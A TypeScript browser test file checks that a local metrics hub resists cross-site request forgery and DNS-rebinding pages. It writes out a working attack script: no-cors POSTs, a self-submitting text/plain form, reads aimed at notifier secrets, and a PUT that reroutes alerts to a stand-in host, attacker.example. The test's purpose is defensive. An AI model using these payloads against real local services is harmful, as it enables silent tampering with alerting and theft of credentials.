// Web pages against the hub, in Debian's Chromium: what any site the user opens could try.
//
//  - A page on another port of 127.0.0.1 (another origin, the same site) sends what a page
//    may send without asking: no-cors fetch() POSTs with text/plain JSON to silences,
//    agents, import, snapshots, settings and dashboards; CORS fetch() PUTs and DELETEs (the
//    browser asks first); an HTML form that submits itself into a hidden frame; and fetch()
//    reads of the settings and the notifier config.
//  - A DNS-rebinding page: its own name (attacker.localtest) resolves to 127.0.0.1
//    (Chromium's --host-resolver-rules stands in for the attacker's DNS answer), so for the
//    browser the hub *is* the page's origin: same-origin JSON requests, answers readable.
//    Its document is served by the test (Playwright's route) as the attacker's server
//    served it before the name was re-resolved.
//
// Afterwards a legitimate client finds nothing changed, and nothing secret reached a page.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newPage, uiPerFile } from './testing/ui-harness.ts';

const SLACK_URL = 'https://hooks.slack.example/services/T0/B0/slack-secret-path';
const SMTP_PASSWORD = 'smtp-secret-password';
const NOTIFIER = `route:
  receiver: team
receivers:
  - name: team
    slack_configs:
      - api_url: ${SLACK_URL}
        channel: '#ops'
    email_configs:
      - to: ops@example.org
        from: hub@example.org
        smarthost: smtp.example.org:587
        auth_username: hub
        auth_password: ${SMTP_PASSWORD}
`;
const SECRETS = [SLACK_URL, SMTP_PASSWORD, 'slack-secret-path'];
const REBINDING_NAME = 'attacker.localtest';

const rig = uiPerFile({ notifierConfig: NOTIFIER }, [
  `--host-resolver-rules=MAP ${REBINDING_NAME} 127.0.0.1`,
  // Chromium's own guards for pages reaching local addresses would stop some of these
  // requests before the hub sees them; the hub must hold without them (older browsers,
  // other browsers, and a rebound name that is local already).
  '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults,BlockInsecurePrivateNetworkRequests',
]);

/** What each attack got back, as the page saw it. */
interface Outcome {
  attack: string;
  /** 'opaque' (no-cors), the status it could read, or the error fetch() threw. */
  result: string;
  /** The answer's text when the page could read it. */
  readable?: string;
}

// The attacks, as script in the attacker's page. `hub` is where it sends them: the hub's
// own address (cross-origin page) or '' (the rebinding page, whose origin is the hub).
function attackScript(hub: string, mode: 'cross-origin' | 'rebinding'): string {
  return `
const hub = ${JSON.stringify(hub)};
const outcomes = [];
const silenceAll = JSON.stringify({ matchers: ['alertname=~".+"'], for: '87600h', createdBy: 'attacker', comment: 'x' });
async function attempt(attack, url, init) {
  try {
    const res = await fetch(hub + url, init);
    let readable;
    if (res.type !== 'opaque') readable = await res.text();
    outcomes.push({ attack, result: res.type === 'opaque' ? 'opaque' : 'status ' + res.status, readable });
  } catch (e) {
    outcomes.push({ attack, result: 'threw ' + e.name });
  }
}
const simple = (body) => ({ method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body });
const json = (method, body) => ({ method, headers: { 'content-type': 'application/json' }, body: body === undefined ? undefined : JSON.stringify(body) });
window.attacksDone = (async () => {
  if (${JSON.stringify(mode)} === 'cross-origin') {
    await attempt('silence everything (no-cors text/plain)', '/api/hub/v1/silences', simple(silenceAll));
    await attempt('issue an agent token (no-cors text/plain)', '/api/hub/v1/agents', simple('{"agentId":"attack-agent"}'));
    await attempt('import a series (no-cors text/plain)', '/api/hub/v1/import?format=prometheus', simple('attack_import 1 ' + Date.now() + '\\n'));
    await attempt('take a snapshot (no-cors)', '/api/hub/v1/snapshots', { method: 'POST', mode: 'no-cors' });
    await attempt('change settings (no-cors POST)', '/api/hub/v1/settings', simple('{"store.retention":"1h"}'));
    await attempt('change settings (PUT, CORS)', '/api/hub/v1/settings', { method: 'PUT', headers: { 'content-type': 'text/plain' }, body: '{"store.retention":"1h"}' });
    await attempt('save a dashboard (PUT, CORS)', '/api/hub/v1/dashboards/evil', json('PUT', { title: 'Evil', panels: [] }));
    await attempt('delete a dashboard (DELETE, CORS)', '/api/hub/v1/dashboards/keep', { method: 'DELETE' });
    await attempt('read the settings', '/api/hub/v1/settings', {});
    await attempt('read the notifier config', '/api/hub/v1/alerting-config', {});
    await attempt('read the notifier config (no-cors)', '/api/hub/v1/alerting-config', { mode: 'no-cors' });
    // An HTML form that submits itself: text/plain with the JSON split across name=value.
    const frame = document.createElement('iframe');
    frame.name = 'sink';
    document.body.append(frame);
    const form = document.createElement('form');
    form.method = 'POST';
    form.enctype = 'text/plain';
    form.target = 'sink';
    form.action = hub + '/api/hub/v1/silences';
    const input = document.createElement('input');
    input.name = '{"matchers":["alertname=~\\\\".+\\\\""],"for":"87600h","createdBy":"form","comment":"';
    input.value = '"}';
    form.append(input);
    document.body.append(form);
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
    form.submit();
    await loaded;
    outcomes.push({ attack: 'silence everything (auto-submitted form)', result: 'submitted' });
  } else {
    await attempt('read the notifier config', '/api/hub/v1/alerting-config', {});
    await attempt('read the settings', '/api/hub/v1/settings', {});
    await attempt('list the snapshots', '/api/hub/v1/snapshots', {});
    await attempt('redirect alert routing', '/api/hub/v1/alerting-config', json('PUT', { text: 'route:\\n  receiver: evil\\nreceivers:\\n  - name: evil\\n    webhook_configs:\\n      - url: http://attacker.example/hook\\n' }));
    await attempt('retention 1h', '/api/hub/v1/settings', json('PUT', { 'store.retention': '1h' }));
    await attempt('silence everything', '/api/hub/v1/silences', { method: 'POST', headers: { 'content-type': 'application/json' }, body: silenceAll });
    await attempt('issue an agent token', '/api/hub/v1/agents', json('POST', { agentId: 'attack-agent' }));
    await attempt('delete a dashboard', '/api/hub/v1/dashboards/keep', { method: 'DELETE', headers: { 'x-metrics-hub': '1' } });
    await attempt('take a snapshot', '/api/hub/v1/snapshots', { method: 'POST', headers: { 'x-metrics-hub': '1' } });
  }
  return outcomes;
})();
`;
}

function page(script: string): string {
  return `<!doctype html><html><head><title>cute cats</title></head><body><p>cute cats</p><script>${script}</script></body></html>`;
}

describe.runIf(rig.available)('web pages against the hub (Chromium)', () => {
  let attacker: Server;
  let attackerUrl: string;
  let hubUrl: string;
  let keepDashboard: unknown;
  let notifierBefore: string;

  /** The hub's API as a legitimate client uses it (curl, the hub's own views). */
  const api = async (path: string, init: RequestInit = {}) => {
    const res = await fetch(`${hubUrl}${path}`, { ...init, headers: { 'content-type': 'application/json', ...init.headers } });
    expect(res.ok, `${path}: ${res.status}`).toBe(true);
    return res.json() as Promise<Record<string, unknown>>;
  };

  beforeAll(async () => {
    hubUrl = rig.ui.url.replace(/\/$/, '');
    keepDashboard = await api('/api/hub/v1/dashboards/keep', {
      method: 'PUT',
      body: JSON.stringify({ title: 'Keep me', panels: [{ title: 'up', expr: 'up' }] }),
    });
    notifierBefore = ((await api('/api/hub/v1/alerting-config')) as { text: string }).text;
    expect(notifierBefore).toContain(SMTP_PASSWORD);
    attacker = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(page(attackScript(hubUrl, 'cross-origin')));
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`;
  });
  afterAll(() => new Promise<void>((resolve) => (attacker ? attacker.close(() => resolve()) : resolve())));

  /** Nothing any attack asked for happened: checked through the API, as its users see it. */
  async function expectNothingChanged(): Promise<void> {
    expect(((await api('/api/hub/v1/silences')) as { silences: unknown[] }).silences).toEqual([]);
    const fleet = (await api('/api/hub/v1/fleet')) as { tokens: { agentId: string }[] };
    expect(fleet.tokens.map((t) => t.agentId)).not.toContain('attack-agent');
    const imported = (await api('/api/v1/query?query=attack_import')) as { data: { result: unknown[] } };
    expect(imported.data.result).toEqual([]);
    expect(((await api('/api/hub/v1/snapshots')) as { snapshots: unknown[] }).snapshots).toEqual([]);
    expect(((await api('/api/hub/v1/settings')) as { saved: Record<string, string> }).saved).toEqual({});
    const dashboards = ((await api('/api/hub/v1/dashboards')) as { dashboards: { id: string }[] }).dashboards;
    expect(dashboards.find((d) => d.id === 'keep')).toEqual(keepDashboard);
    expect(dashboards.map((d) => d.id)).not.toContain('evil');
    expect(((await api('/api/hub/v1/alerting-config')) as { text: string }).text).toBe(notifierBefore);
  }

  /** Requests the hub refused as sent by a page elsewhere (its status figures). */
  async function refusedByHub(): Promise<number> {
    const status = (await api('/api/hub/v1/status')) as { http: { refused?: Record<string, number> } };
    return (status.http.refused?.origin ?? 0) + (status.http.refused?.fetch_site ?? 0);
  }

  function expectNothingRead(outcomes: Outcome[]): void {
    for (const o of outcomes) for (const secret of SECRETS) expect(o.readable ?? '', `${o.attack} read a secret`).not.toContain(secret);
  }

  it('a page on another port: no-cors POSTs, CORS PUTs and DELETEs, a self-submitting form, reads', async () => {
    const { page: tab } = await newPage(rig.browser);
    try {
      // The page attacks as soon as it loads.
      const before = await refusedByHub();
      await tab.goto(attackerUrl);
      const outcomes = (await tab.evaluate('window.attacksDone')) as Outcome[];
      expect(outcomes.map((o) => o.attack)).toHaveLength(12);
      await expectNothingChanged();
      expectNothingRead(outcomes);
      // Every request reached the hub and was refused there: 5 no-cors POSTs, 3 preflights
      // (PUT, PUT, DELETE), 3 reads and the form.
      expect((await refusedByHub()) - before).toBeGreaterThanOrEqual(12);
      // Nothing readable: no CORS headers, and the answers are same-origin only (CORP), so
      // even the opaque no-cors answers are withheld from the page.
      for (const o of outcomes.filter((x) => x.attack !== 'silence everything (auto-submitted form)'))
        expect(o.result, o.attack).toBe('threw TypeError');
    } finally {
      await tab.context().close();
    }
  }, 60_000);

  it('a DNS-rebinding page: its own name on the hub, same-origin JSON requests', async () => {
    const { page: tab } = await newPage(rig.browser);
    const port = new URL(hubUrl).port;
    const rebound = `http://${REBINDING_NAME}:${port}/`;
    try {
      // The attacker's document, as its server gave it before the name turned to 127.0.0.1.
      await tab.route(rebound, (route) =>
        route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: page(attackScript('', 'rebinding')) }),
      );
      await tab.goto(rebound);
      const outcomes = (await tab.evaluate('window.attacksDone')) as Outcome[];
      expect(outcomes).toHaveLength(9);
      expectNothingRead(outcomes);
      await expectNothingChanged();
      for (const o of outcomes) {
        // Every request reached the hub (same origin for the browser) and was refused for its Host.
        expect(o.result, o.attack).toBe('status 421');
        expect(o.readable, o.attack).toContain(`refused Host \\"${REBINDING_NAME}:${port}\\"`);
      }
    } finally {
      await tab.context().close();
    }
  }, 60_000);

  it("the hub's own page at localhost still works after all that: it saves a silence", async () => {
    const { page: tab, errors } = await newPage(rig.browser);
    try {
      await tab.goto(`http://localhost:${new URL(hubUrl).port}/`);
      const created = await tab.evaluate(async () => {
        const res = await fetch('/api/hub/v1/silences', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ matchers: ['job="own-page"'], for: '1h', createdBy: 'me', comment: 'from the hub page' }),
        });
        return { status: res.status, id: ((await res.json()) as { id: string }).id };
      });
      expect(created.status).toBe(201);
      await api(`/api/hub/v1/silences/${created.id}`, { method: 'DELETE' });
      expect(errors).toEqual([]);
    } finally {
      await tab.context().close();
    }
  }, 60_000);
});
